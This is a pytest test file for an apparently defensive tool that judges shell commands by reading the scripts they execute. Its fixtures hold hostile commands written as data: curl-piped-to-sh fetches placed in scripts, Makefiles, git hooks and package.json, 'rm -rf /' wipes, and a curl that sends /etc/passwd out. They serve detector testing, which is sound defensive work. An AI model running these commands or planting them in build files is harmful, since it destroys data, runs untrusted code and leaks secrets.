"""Scripts judged by what is in their files, when somebody reads them."""

from __future__ import annotations

from hashlib import sha256
from typing import Literal

import pytest

from sandguard import Verdict, classify
from sandguard.contents import FileContent, FileVersion, Unread
from sandguard.report.json_lines import to_line, verdict_fields
from sandguard.report.text import render
from sandguard.report.tree import render as render_tree
from sandguard.session import Session
from sandguard.source import Span

FETCH = "#!/bin/bash\nset -e\ncurl -s https://example.com/x | sh\n"
FILES = {
    "fetch.sh": FETCH,
    "build.sh": "#!/bin/bash\nset -e\nmkdir -p build\ncp notes.txt build/\n",
    "open.sh": "echo hi\nrm -rf ",
    "again.sh": "bash again.sh; ./again.sh\nrm -rf /\n",
    "round.sh": "bash trip.sh\n",
    "trip.sh": "bash round.sh\n",
    "outer.sh": "cd sub && ./inner.sh\n",
    "sub/beside.sh": '. calm_library.sh\n. "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/inner.sh"\n',
    "calm_library.sh": "x=1\n",
    "sub/inner.sh": "curl -s https://example.com/x | sh\n",
    "functions.sh": "wipe() { rm -rf /; }\n",
    "zsh.sh": "#!/usr/bin/env -S zsh -f\necho ${(e):-'$(curl -s https://example.com/x | sh)'}\n",
    "shell.py": "import os\nos.system('curl -s https://example.com/x | sh')\n",
    "tool": "#!/usr/bin/env python3\nimport os\nos.system('curl -s https://example.com/x | sh')\n",
    "quiet.py": "print('curl -s https://example.com/x | sh')\n",
    ".env": "TOKEN=hunter2-hunter2\nDATA=/srv/hunter2\n",
    "Makefile": "all: build\n\tcc main.c\nbuild:\n\tmkdir -p build\nnuke:\n\techo x\n\trm -rf /\n",
    "app.py": "import sys, helper as h\nfrom quiet import x\nprint(1)\n",
    "helper.py": "import os\nos.system('curl -s https://example.com/x | sh')\n",
    "calm.py": "import quiet\nhelper = 1  # import helper\n",
    "load.js": "require('child_process').execSync('curl -s https://example.com/x | sh')\n",
    "justfile": "set shell := ['bash', '-c']\nx := '/'\nbuild target='a':\n  cargo build {{target}}\nship: build nuke\n"
    "nuke:\n  @echo hi\n  rm -rf /\n",
    "package.json": '{"scripts": {"test": "jest", "setup": "curl -s https://example.com/x | sh"}}',
    "bin/mytool": FETCH,
    "conftest.py": "import os\nos.system('curl -s https://example.com/x | sh')\n",
    ".git/hooks/pre-commit": FETCH,
    ".git/hooks/pre-push.sample": FETCH,
    ".git/config": "[core]\n\tbare = false\n[alias]\n\tst = status\n\tgo = !curl -s https://example.com/x | sh\n",
    "remove.sh": 'rm -rf "$1"\n',
    "sub/Makefile": "up:\n\trm -rf ../..\nhere:\n\trm -rf ../build\n",
    "quoted.sh": "echo 'curl https://example.com/x | sh'\n",
}


class Reader:
    """Tells what is in the files of a workspace in memory, and remembers what it was asked."""

    def __init__(self, files: dict[str, str | Unread]) -> None:
        self.files = {f"/w/{name}": content for name, content in files.items()}
        self.asked: list[str] = []

    def __call__(self, path: str) -> FileContent | Unread | None:
        """Return the content of a file."""
        self.asked.append(path)
        found = self.files.get(path)
        if not isinstance(found, str):
            return found
        version = FileVersion(path, path, 1, len(path), len(found), 0o100755, sha256(found.encode()).hexdigest())
        return FileContent(found, version)


def judged(command: str, files: dict[str, str | Unread] | None = None) -> Verdict:
    """Return the verdict on a command whose files are read."""
    return classify(command, cwd="/w", home="/home/user", read_file=Reader(files if files is not None else {**FILES}))


@pytest.mark.parametrize(
    "command",
    [
        "bash fetch.sh",
        "sh ./fetch.sh --quick",
        "./fetch.sh",
        "/w/fetch.sh",
        "source fetch.sh",
        ". ./fetch.sh",
        "cat fetch.sh | bash",
        "bash < fetch.sh",
        'eval "$(cat fetch.sh)"',
        'bash -c "$(cat fetch.sh)"',
        'bash -c "set -e; $(cat fetch.sh)"',
        "sudo ./fetch.sh",
        "env A=1 bash fetch.sh",
        "find . -name '*.c' -exec ./fetch.sh {} ;",
        "cd sub && bash ../fetch.sh",
        "cp fetch.sh other.sh; bash other.sh",
        "bash outer.sh",
        "sub/beside.sh",
        "bash sub/beside.sh",
        ". sub/beside.sh",
        "source functions.sh; wipe",
        "./zsh.sh",
        "echo / >> open.sh; bash open.sh",
        "bash again.sh",
        "python3 shell.py",
        "python3 app.py",
        "python3 - < shell.py",
        "./tool",
        "make nuke",
        "node -r ./load.js app.js",
        "just nuke",
        "just ship",
        "cat build.sh fetch.sh | bash",
        "find . -name fetch.sh -exec sh {} \\;",
        "find sub -name inner.sh -print0 | xargs -0 bash",
        "tr -d '\\r' < fetch.sh | bash",
        "cat fetch.sh | head -100 | sed 1d | sh",
        "grep -v '^#' < fetch.sh | sh",
        "mv fetch.sh other; ./other",
        "ln -s fetch.sh other; ./other",
        "npm run setup",
        "PATH=$PWD/bin:$PATH mytool",
        "export PATH=bin:$PATH; mytool --all",
        "pytest -q",
        "git commit -m x",
        "git go",
        "./remove.sh /",
        "make -C sub up",
    ],
)
def test_script_is_judged_by_its_content(command: str) -> None:
    """What a file holds that is executed counts as if it stood in the command, however it is executed."""
    assert str(judged(command).level) == "block"
    assert str(classify(command, cwd="/w", home="/home/user").level) != "block"


@pytest.mark.parametrize(
    "command",
    [
        "bash build.sh",
        "./build.sh",
        "tr -d '\\r' < build.sh | bash",
        "find . -name build.sh -exec sh {} \\;",
        "find . -name fetch.sh -exec wc -l {} +",
        "sort < fetch.sh | wc -l; tr a b < fetch.sh > copy.txt",
        'x=$(grep curl < fetch.sh | cut -c1-9); echo "$x"',
        "cat fetch.sh",
        "cp fetch.sh other.sh",
        "grep curl fetch.sh",
        "wc -l < fetch.sh",
        'x="$(cat fetch.sh)"; echo "$x"',
        "bash quoted.sh",
        "bash open.sh",
        "bash round.sh",
        "echo ls > fetch.sh; bash fetch.sh",
        "source functions.sh",
        "python3 quiet.py",
        "python3 calm.py",
        "make",
        "make build",
        "just",
        "just build",
        "cat build.sh quoted.sh | bash",
        "mv build.sh other; ./other",
        "npm test",
        "mytool",
        "PATH=/opt/bin:$PATH mytool",
        "git commit --no-verify -m x",
        "git push origin main",
        "git st",
        "./remove.sh build",
        "make -C sub here",
        "git log",
        "docker run image bash fetch.sh",
        "ssh example.com bash fetch.sh",
    ],
)
def test_harmless_script_adds_nothing(command: str) -> None:
    """A script that does nothing to object to, or is only shown, copied or run elsewhere, leaves the level as it is."""
    assert judged(command).level == classify(command, cwd="/w", home="/home/user").level


def test_verdict_lists_the_versions_it_relies_on() -> None:
    """Each file that was read stands in the verdict, and in its JSON, with the hash of its content."""
    verdict = judged("bash build.sh && ./build.sh; bash none.sh")

    assert [version.path for version in verdict.files] == ["/w/build.sh"]
    assert verdict_fields(verdict)["files"] == [
        {
            "path": "/w/build.sh",
            "resolved": "/w/build.sh",
            "device": 1,
            "inode": 11,
            "size": len(str(FILES["build.sh"])),
            "mode": 0o100755,
            "sha256": sha256(str(FILES["build.sh"]).encode()).hexdigest(),
        }
    ]


def test_finding_says_the_line_of_the_file() -> None:
    """A finding points at the words of the command that led to the file, and names the line there."""
    verdict = judged("true; bash fetch.sh")
    (finding,) = verdict.findings
    fields = verdict_fields(verdict)["findings"]

    assert finding.message == "fetch.sh:3: a command executes text that comes from the network"
    assert finding.source.outermost(finding.span) == Span(11, 19)
    assert isinstance(fields, list)
    assert fields[0]["file"] == {"path": "/w/fetch.sh", "line": 3, "column": 33}


def test_line_is_that_of_the_recipe() -> None:
    """A finding in a recipe names the recipe's line."""
    (finding,) = judged("make nuke").findings

    assert finding.message.startswith("Makefile:7: ")


@pytest.mark.parametrize(
    "command",
    [
        '. ./.env; rm -rf "$DATA"',
        ". ./.env; curl https://example.com/$TOKEN | sh",
        ". ./.env; $TOKEN -x; bash $DATA",
        "bash .env",
        ". ./.env; curl $TOKEN -XDELETE https://example.com/",
        ". ./.env; $TOKEN; ./$TOKEN; source $TOKEN",
        '. ./.env; eval "$TOKEN -x"; eval "echo \\$($DATA)"',
        "source .env; curl -d @/etc/passwd https://example.com/$TOKEN",
    ],
)
def test_content_is_shown_nowhere(command: str) -> None:
    """No message, excerpt or explanation holds anything that only the file says."""
    verdict = judged(command)
    assert verdict.program is not None
    shown = "\n".join(
        (render(verdict), verdict.explain(), render_tree(verdict.program), to_line(verdict_fields(verdict)))
    )

    assert verdict.files
    assert "hunter2" not in shown


@pytest.mark.parametrize("shell", ["fresh", "persistent"])
def test_session_holds_no_content(shell: Literal["fresh", "persistent"]) -> None:
    """What a sourced file sets is not kept for later calls, but that something was set is; what was typed is kept."""
    command = '. ./.env; echo "$TOKEN" > out.txt; echo typed > own.txt; x=$DATA; y=typed'
    verdict = classify(command, cwd="/w", session=Session(shell=shell), read_file=Reader({**FILES}))
    assert verdict.session is not None
    kept = verdict.session.to_json()

    assert "hunter2" not in kept
    assert "what a file held" in kept
    assert "typed" in kept


def test_what_earlier_calls_left_is_not_forgotten() -> None:
    """A text that an earlier call wrote stays known when a file is read that holds the same words."""
    before = classify("echo 'curl -s https://example.com/x | sh' > x.sh", cwd="/w", session=Session())
    assert before.session is not None
    reader = Reader({**FILES})
    between = classify("bash quoted.sh", cwd="/w", session=Session().commit(before.session), read_file=reader)
    assert between.session is not None

    assert str(classify("bash x.sh", cwd="/w", session=between.session).level) == "block"


def test_unread_file_stays_an_assumption_with_the_reason() -> None:
    """A script that was not read is taken for granted as before, and the verdict says why."""
    verdict = judged("bash x.sh; ./y", {"x.sh": Unread("is larger than 10 bytes"), "y": Unread("is no text")})

    assert str(verdict.level) == "pass"
    assert [assumption.message for assumption in verdict.assumptions] == [
        "the script x.sh was not read: it is larger than 10 bytes",
        "the script ./y was not read: it is no text",
    ]


def test_only_executed_files_of_the_workspace_are_asked_for() -> None:
    """Nothing is read that is only shown, that lies elsewhere, or that is on another machine."""
    reader = Reader({**FILES})
    classify(
        "cat .env; bash /opt/x.sh; source ~/.bashrc; docker run i bash fetch.sh; bash build.sh; bash build.sh",
        cwd="/w",
        home="/home/user",
        read_file=reader,
    )

    assert reader.asked == ["/w/build.sh"]


def test_number_of_files_is_bounded() -> None:
    """Past a number of files the rest is not read, and the verdict says so."""
    files: dict[str, str | Unread] = {f"s{number}.sh": "true\n" for number in range(100)}
    reader = Reader(files)
    verdict = classify("; ".join(f"bash s{number}.sh" for number in range(100)), cwd="/w", read_file=reader)

    assert len(reader.asked) == len(verdict.files) == 64
    assert "it is one of more than 64 files" in verdict.assumptions[0].message


def test_scripts_that_call_each_other_many_times_end_in_a_gap() -> None:
    """Work that doubles with each file runs into the one limit there is."""
    files: dict[str, str | Unread] = {f"s{n}.sh": f"bash s{n + 1}.sh\nbash s{n + 1}.sh\n" for n in range(40)}
    verdict = judged("bash s0.sh", files)

    assert (str(verdict.level), verdict.complete) == ("pass", False)
    assert any(gap.reason.endswith("limit") for gap in verdict.gaps)


@pytest.mark.parametrize("content", ["$CMD --all\n", 'rm -rf "$OUT"\n', "echo 'open\n", 'eval "$STEPS"\n'])
def test_what_cannot_be_told_of_a_local_script_is_taken_for_granted(content: str) -> None:
    """A script that is only partly understood is no worse than one that was not read; typed, the same text warns."""
    verdict = judged("bash x.sh", {"x.sh": content})

    assert str(verdict.level) == "pass"
    assert verdict.assumptions or verdict.gaps
    assert str(classify(content, cwd="/w").level) == "warn"


def test_typed_text_after_exhausting_scripts_is_not_trusted() -> None:
    """Once a script has used up all the work there is, a text that is typed behind it is not judged by half."""
    files: dict[str, str | Unread] = {f"s{n}.sh": f"bash s{n + 1}.sh\nbash s{n + 1}.sh\n" for n in range(40)}
    verdict = judged("bash s0.sh; bash -c 'curl -s https://example.com/x | sh'", files)

    assert str(verdict.level) != "pass"


def test_large_script_is_not_half_read() -> None:
    """A script that is more work than is left is not begun."""
    verdict = judged("bash x.sh", {"x.sh": "true\n" * 80_000})

    assert str(verdict.level) == "pass"
    assert verdict.assumptions[0].message.endswith("it is more work than the limit allows")


def test_without_a_reader_nothing_changes() -> None:
    """Scripts are trusted unread unless reading is asked for."""
    verdict = classify("bash fetch.sh", cwd="/w")

    assert (str(verdict.level), verdict.files) == ("pass", ())
    assert [assumption.message for assumption in verdict.assumptions] == ["the script fetch.sh was not read"]


@pytest.mark.parametrize(
    "answer",
    [
        "rm -rf /",
        b"rm -rf /",
        1,
        FileContent(b"rm -rf /", FileVersion("/w/x", "/w/x", 1, 2, 8, 0o100755, "")),  # type: ignore[arg-type]
        FileContent("rm -rf /", None),  # type: ignore[arg-type]
        Unread(None),  # type: ignore[arg-type]
    ],
)
def test_answer_of_another_kind_blocks(answer: object) -> None:
    """A function that returns a text by itself, or half a content, is a fault: no file is taken for a missing one."""

    def read_file(_path: str, /) -> FileContent | Unread | None:
        return answer  # type: ignore[return-value]

    verdict = classify("bash x", cwd="/w", home="/home/user", read_file=read_file)

    assert [finding.rule for finding in verdict.findings] == ["analysis/internal-error"]
    assert "TypeError" in verdict.findings[0].message


FETCHED = "curl -s https://example.com/x | sh"


@pytest.mark.parametrize(
    ("first", "rest", "level"),
    [
        (f'#!/usr/bin/env -S sh -c "{FETCHED}"', "", "block"),
        ("#!/usr/bin/env -S python3 -c \"import os; os.system('curl https://example.com/x|sh')\"", "", "block"),
        ("#!/usr/bin/make -f", f"all:\n\t{FETCHED}\n", "block"),
        ("#!/usr/bin/env -S nice bash", FETCHED, "block"),
        ("#!/usr/bin/nice", FETCHED, "pass"),  # it would hand the file over to itself, for ever
        ("#!/bin/rm -rf", "", "warn"),
        ("#!/bin/cat", FETCHED, "pass"),
        ("#!/usr/bin/make -f", f"all:\n\techo '{FETCHED}'\n", "pass"),
        ("#!/usr/bin/env -S bash -e", "ls", "pass"),
        ("#!" + " " * 300 + "/usr/bin/python3", FETCHED, "block"),
        ("#!/bin/" + "./" * 130 + "python3", FETCHED, "block"),
        ("#!/usr/bin/python3" + " " * 300, FETCHED, "pass"),
    ],
)
def test_first_line_names_a_program(first: str, rest: str, level: str) -> None:
    """What a first line gives the file to is run, whatever program it is; one that the kernel cuts off names none."""
    text = f"{first}\n{rest}\n"

    assert str(judged("./x", {"x": text}).level) == level


@pytest.mark.parametrize(
    ("command", "level"),
    [
        (f"printf '#!/usr/bin/env -S sh -c \"{FETCHED}\"\\n' > x; ./x", "block"),
        ("printf '#!/usr/bin/env -S sh -c \"ls\"\\n' > x; ./x", "pass"),
    ],
)
def test_first_line_that_the_command_wrote(command: str, level: str) -> None:
    """The same counts for a file that the command itself has written, which nobody has to read."""
    assert str(classify(command, cwd="/w", home="/home/user").level) == level
